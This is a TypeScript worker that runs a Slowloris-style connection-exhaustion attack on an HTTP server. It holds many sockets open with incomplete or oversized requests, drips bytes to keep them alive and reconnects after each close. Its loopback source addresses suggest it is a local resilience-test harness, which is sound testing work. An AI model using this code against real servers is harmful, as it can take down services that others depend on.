/*
 * A worker that attacks a server of HTTP: it holds as many connections as it is told, and makes each anew some seconds after
 * the server has closed it. It posts how many it has made.
 */

import { connect } from "node:net";

/** What it attacks. */
export interface Target {
  readonly host: string;
  readonly port: number;
  readonly connections: number;
}

/** What connections begin with: most never end a head, some send long ones, and some never read their answer. */
const openings = [
  "GET /metrics HTTP/1.1\r\nhost: a\r\nx:",
  "GET",
  "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
  "GET / HTTP/1.1\r\nhost: a\r\n\r\n",
  `GET / HTTP/1.1\r\nx: ${"y".repeat(7_000)}`,
  "GET /metrics HTTP/1.1\r\nhost: a\r\n\r\n",
  "",
  `GET / HTTP/1.1\r\nx: ${"y".repeat(20_000)}\r\n\r\n`,
];

const worker = self as unknown as {
  onmessage: (event: MessageEvent<Target>) => void;
  postMessage(made: number): void;
};
let made = 0;

worker.onmessage = ({ data: { connections, ...target } }) => {
  for (let index = 0; index < connections; index++) attack(target, index);
  setInterval(() => worker.postMessage(made), 500);
};

/** Holds one connection for ever: from one of the addresses of ten pods, as it were. */
function attack(target: Omit<Target, "connections">, index: number): void {
  const socket = connect({ ...target, localAddress: `127.0.1.${1 + index % 10}` });
  const opening = openings[index % openings.length]!;
  // The answer stays unread; by its next byte an attacker notices the end of the connection.
  socket.pause();
  const drip = setInterval(() => socket.write("y"), 1_000);
  socket.on("connect", () => {
    made++;
    socket.write(opening);
  });
  socket.on("error", () => {});
  socket.on("close", () => {
    clearInterval(drip);
    setTimeout(() => attack(target, index), 5_000);
  });
}
